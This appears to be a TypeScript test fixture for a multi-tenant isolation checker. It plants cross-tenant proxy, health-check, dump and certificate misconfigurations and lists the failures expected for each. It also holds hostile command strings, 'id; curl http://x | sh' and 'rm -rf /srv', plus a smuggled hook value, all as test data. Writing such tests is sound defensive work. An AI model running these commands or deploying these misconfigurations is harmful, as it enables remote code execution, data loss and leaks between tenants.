import { and, at, type Plants, text } from "../support/plant.ts";

/** Delivers a fragment of certificates instead of the health checks. */
function certificates(stdin: string) {
  return and(
    at("dev.acme", "HostFile acme-health", () => ({ kind: "certificates" })),
    at("dev.acme", "Command acme-health", ({ create, update, delete: remove }) => ({
      ...Object.fromEntries(
        Object.entries({ create, update, delete: remove }).map(([name, command]) => [
          name,
          String(command).replace(" health ", " certificates "),
        ]),
      ),
      stdin,
    })),
  );
}

/** What tenants deliver to hosts that they share. */
export const sharedHosts: Plants = {
  holes: [
    {
      kind: "proxy",
      title: "a route of the proxy answers for everybody's hosts",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-routes",
        text("stdin", "include listen.conf;", "listen 80 default_server;"),
      ),
      fails: ["proxy: acme → platform by acme-routes"],
    },
    {
      kind: "proxy",
      title: "a route of the proxy gives out files of the proxy",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-routes",
        text("stdin", "include listen.conf;", "root /; autoindex on;"),
      ),
      fails: ["proxy: acme → platform by acme-routes"],
    },
    {
      kind: "proxy",
      title: "a server of the proxy has no name",
      of: "dev",
      plant: at("dev.acme", "Command acme-routes", (inputs) => ({
        stdin: `${String(inputs["stdin"])}server { include listen.conf; }\n`,
      })),
      fails: ["proxy: acme → platform by acme-routes"],
    },
    {
      kind: "proxy",
      title: "a route of the proxy leads to a second tenant's guest",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-routes",
        text("stdin", "10.10.16.12:3000", "10.10.16.13:3000"),
      ),
      fails: ["proxy: acme → globex by acme-routes"],
    },
    {
      kind: "proxy",
      title: "a route of the proxy names a second tenant's guest without an upstream",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-routes",
        text("stdin", "proxy_pass http://t1_social", "proxy_pass http://10.10.16.13:3000"),
      ),
      fails: ["proxy: acme → globex by acme-routes"],
    },
    {
      kind: "proxy",
      title: "a route of the proxy answers for a second tenant's host",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-routes",
        text("stdin", "server_name acme.lab", "server_name globex.lab"),
      ),
      fails: ["proxy: acme → globex by acme-routes"],
    },
    {
      kind: "fragment",
      title: "a tenant's health checks restart a second tenant's guest",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-health",
        text("stdin", "10.10.16.11:80", "10.10.16.13:3000"),
      ),
      fails: ["fragment: acme → globex by acme-health"],
    },
    {
      kind: "fragment",
      title: "a tenant's dumps hold a second tenant's database",
      of: "dev",
      plant: at("dev.acme", "Command acme-dumps", text("stdin", "t1_crm", "t2_crm")),
      fails: ["fragment: acme → globex by acme-dumps"],
    },
    {
      kind: "fragment",
      title: "a tenant's fragment stands in a second tenant's place",
      of: "dev",
      plant: at("dev.acme", "HostFile acme-health", () => ({ file: "globex" })),
      fails: ["fragment: acme → globex by acme-health"],
    },
    {
      kind: "proxy",
      title: "a tenant gets a certificate for a second tenant's host",
      of: "dev",
      plant: certificates("globex.lab.aiqso.example\n"),
      fails: ["proxy: acme → globex by acme-health"],
    },
  ],
  nearMisses: [
    {
      kind: "proxy",
      title: "a tenant gets certificates for its own host and a domain of its customer's",
      of: "dev",
      plant: certificates("acme.lab.aiqso.example\nshop.customer.example\n"),
      fails: [],
    },
    {
      kind: "proxy",
      title: "a route leads to another guest of the same tenant",
      of: "dev",
      plant: at(
        "dev.acme",
        "Command acme-routes",
        text("stdin", "10.10.16.12:3000", "10.10.16.10:3000"),
      ),
      fails: [],
    },
  ],
  unreadable: [
    {
      kind: "proxy",
      title: "a fragment of certificates says more than hosts",
      of: "dev",
      plant: certificates("acme.lab.aiqso.example\nhook=/tmp/x\n"),
      fails: ["not proven: acme acme-health"],
    },
    {
      kind: "proxy",
      title: "a command runs more than the helper",
      of: "dev",
      plant: at("dev.acme", "Command acme-routes", () => ({ create: "id; curl http://x | sh" })),
      fails: ["not proven: acme acme-routes"],
    },
    {
      kind: "proxy",
      title: "a command deletes more than its fragment",
      of: "dev",
      plant: at("dev.acme", "Command acme-routes", () => ({ delete: "rm -rf /srv" })),
      fails: ["not proven: acme acme-routes"],
    },
    {
      kind: "proxy",
      title: "what is delivered to the proxy is not known yet",
      of: "dev",
      plant: at("dev.acme", "Command acme-routes", () => ({ stdin: "[unknown]" })),
      fails: ["not proven: acme acme-routes"],
    },
  ],
};
